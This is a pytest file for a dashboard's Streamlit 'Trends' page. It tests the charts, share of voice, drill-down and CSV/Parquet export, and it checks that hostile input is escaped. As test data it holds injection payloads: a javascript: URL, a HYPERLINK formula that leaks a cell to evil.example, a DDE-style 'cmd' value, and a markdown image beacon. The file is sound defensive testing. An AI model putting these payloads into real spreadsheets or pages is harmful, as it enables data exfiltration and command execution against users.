"""The Trends page through Streamlit's AppTest: figures, share of voice, drill-down, export, escaping."""
import io
from datetime import datetime, timedelta, timezone

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from pipeline.mention import Labels, Mention
from pipeline.store import Store
from tests.dashboard.conftest import HOSTILE


@pytest.fixture
def trend_db(tmp_path, monkeypatch, rules_file):
    """Ten days of Aerolia and Lumelle mentions, some naming competitors; yesterday's busiest post is hostile."""
    db = str(tmp_path / "trends.db")
    store = Store(db)
    now = datetime.now(timezone.utc)
    posts, labels = [], []
    for i in range(40):
        brand = "Aerolia" if i % 4 else "Lumelle"
        day = 1 if i < 12 else i % 10
        text = HOSTILE if i == 1 else f"{brand} post {i}"
        url = "javascript:alert(4)" if i == 1 else f"https://x.com/u/status/{i}"
        posts.append(Mention("twitter" if i % 3 else "reddit", str(i), text, url=url,
                             author=f"user{i}", author_followers=10 * i, created_at=now - timedelta(days=day, hours=1)))
        labels.append(Labels(posts[-1].key, "en" if i % 5 else "fr", True, (brand,), "negative" if i % 2 else "positive",
                             0.8, i % 2 == 1, 0.8, "complaint" if i % 2 else "praise", i % 2 == 1, 50,
                             competitors=("SkyNordic",) if i % 7 == 0 else (), category="delivery" if i % 2 else None,
                             model="test", emotion=("anger", "joy", None)[i % 3],
                             emotion_score=0.7 if i % 3 < 2 else None))
    store.save_mentions(posts)
    store.save_labels(labels, sla=3600)
    monkeypatch.setenv("ECOUTE_DB", db)
    monkeypatch.setenv("ECOUTE_RULES", str(rules_file))
    return db


def trends_script():
    from ui.trends import trends_page

    trends_page()


def page() -> AppTest:
    return AppTest.from_function(trends_script, default_timeout=60).run()


def test_trends_page_shows_figures_share_of_voice_and_goals(trend_db):
    at = page()
    assert not at.exception
    assert at.title[0].value == "Trends"
    headers = [h.value for h in at.subheader]
    for expected in ("Goals", "Daily volume per brand", "Share of voice against competitors", "Mentions behind a point",
                     "By source", "Export"):
        assert expected in headers
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Aerolia: mentions"] == "30" and metrics["Lumelle: mentions"] == "10"
    assert "share of voice" in metrics


def test_drill_down_lists_the_mentions_of_a_day_as_data_never_markdown(trend_db):
    at = page()
    day = (datetime.now(timezone.utc) - timedelta(days=1, hours=1)).date()
    assert at.selectbox(key="tr_day").value == day and at.selectbox(key="tr_drill_brand").value == "Aerolia"
    assert f"11 mentions of Aerolia on {day:%Y-%m-%d}" in [t.value for t in at.text]
    table = next(d.value for d in at.dataframe if "text" in d.value.columns)
    assert HOSTILE in set(table["text"])
    hostile = table[table["text"] == HOSTILE].iloc[0]
    assert hostile["url"] is None or pd.isna(hostile["url"])           # a javascript: link is never offered
    assert table["url"].dropna().str.startswith("https://").all()
    assert not any("evil.example" in m.value or "onerror" in m.value for m in at.markdown)
    at.selectbox(key="tr_drill_brand").set_value("Lumelle").run()
    assert f"3 mentions of Lumelle on {day:%Y-%m-%d}" in [t.value for t in at.text]


def test_filters_split_and_export(trend_db):
    at = page()
    at.selectbox(key="tr_lang").set_value("fr").run()
    assert not at.exception
    assert {m.label: m.value for m in at.metric}["Aerolia: mentions"] == "6"
    at.selectbox(key="tr_split").set_value("intent").run()
    assert "By intent" in [h.value for h in at.subheader]
    at.selectbox(key="tr_split").set_value("emotion").run()
    assert not at.exception and "By emotion" in [h.value for h in at.subheader]
    at.toggle(key="tr_export").set_value(True).run()
    assert [b.label for b in at.get("download_button")] == ["Download CSV", "Download Parquet"]


def test_top_authors_and_topics_on_demand(trend_db):
    at = page()
    at.toggle(key="tr_authors").set_value(True).run()
    authors = next(d.value for d in at.dataframe if "reach" in d.value.columns and "author" in d.value.columns)
    assert authors.iloc[0]["author"] == "user39"            # the most followers
    at.toggle(key="tr_topics").set_value(True).run(timeout=180)   # embeds the period's mentions
    assert not at.exception
    topics = next(d.value for d in at.dataframe if "label" in d.value.columns)
    assert topics["mentions"].sum() == 40 and topics["label"].str.len().gt(0).all()
    assert any(t.value.startswith("Fastest growing: ") for t in at.text)


def test_an_empty_store_says_so(tmp_path, monkeypatch, rules_file):
    monkeypatch.setenv("ECOUTE_DB", str(tmp_path / "empty.db"))
    monkeypatch.setenv("ECOUTE_RULES", str(rules_file))
    at = page()
    assert not at.exception
    assert "No classified mentions for these filters in this period." in [i.value for i in at.info]


def downloaded(at: AppTest, storages: list, label: str) -> bytes:
    """The bytes a download button hands the browser, read back from AppTest's in-memory media store."""
    url = next(b.proto.url for b in at.get("download_button") if b.label == label)
    name = url.rsplit("/", 1)[-1]
    return next(s.get_file(name).content for s in storages if name.split(".")[0] in s._files_by_id)


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(trend_db, monkeypatch):
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    storages = []
    init = MemoryMediaFileStorage.__init__
    monkeypatch.setattr(MemoryMediaFileStorage, "__init__",
                        lambda self, *a, **k: (init(self, *a, **k), storages.append(self))[0])
    store = Store(trend_db)
    now = datetime.now(timezone.utc)
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    posts = [Mention("twitter", "f1", formula, author="+cmd|' /C calc'!A0", author_followers=5,
                     created_at=now - timedelta(days=2)),
             Mention("twitter", "f2", "  @SUM(1+1)", author="-2+3", created_at=now - timedelta(days=2))]
    store.save_mentions(posts)
    store.save_labels([Labels(m.key, "en", True, ("Aerolia",), "negative", -0.75, True, 0.9, "complaint", True, 50,
                              model="test") for m in posts], sla=3600)
    at = page()
    at.toggle(key="tr_export").set_value(True).run()
    assert not at.exception
    data = downloaded(at, storages, "Download CSV")
    rows = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    mine = rows.set_index("key").loc[["twitter:f1", "twitter:f2"]]
    assert list(mine["text"]) == ["'" + formula, "'  @SUM(1+1)"]
    assert list(mine["author"]) == ["'+cmd|' /C calc'!A0", "'-2+3"]
    typed = pd.read_csv(io.BytesIO(data))
    text_columns = typed.select_dtypes(exclude="number").columns
    assert not rows[text_columns].map(lambda v: v[:1] in ("=", "+", "-", "@", "\t", "\r")).any().any()
    # numbers stay numbers: a negative score is written as a number, not as quoted text
    assert pd.api.types.is_float_dtype(typed["sentiment_score"]) and (typed["sentiment_score"] < 0).any()


def test_a_value_quoted_from_a_broken_rules_file_is_shown_as_plain_text(trend_db, tmp_path, monkeypatch):
    broken = tmp_path / "rules.yaml"
    broken.write_text('brands:\n  - name: Aerolia\n    keywords: [aerolia]\n    competitors: "![x](https://evil.example/p.png)"\n')
    monkeypatch.setenv("ECOUTE_RULES", str(broken))
    at = page()
    assert not at.exception
    shown_as_markdown = [e.value for kind in (at.title, at.subheader, at.caption, at.markdown, at.info, at.warning,
                                              at.error) for e in kind]
    assert not [m for m in shown_as_markdown if "evil.example" in m]
    assert any(e.value.startswith("rules.yaml is invalid") for e in at.error)
    assert any("expected a list of strings, got '![x](https://evil.example/p.png)'" in t.value for t in at.text)


def test_every_trends_table_has_worded_headings_and_empty_cells_for_missing_values(trend_db):
    from tests.dashboard.conftest import assert_tables_read_as_words, table_labels

    at = page()
    at.toggle(key="tr_authors").set_value(True).run()
    assert not at.exception
    assert_tables_read_as_words(at)
    drill = next(d for d in at.dataframe if "text" in d.value.columns)
    assert "followers" in table_labels(drill) and "posted (UTC)" in table_labels(drill)
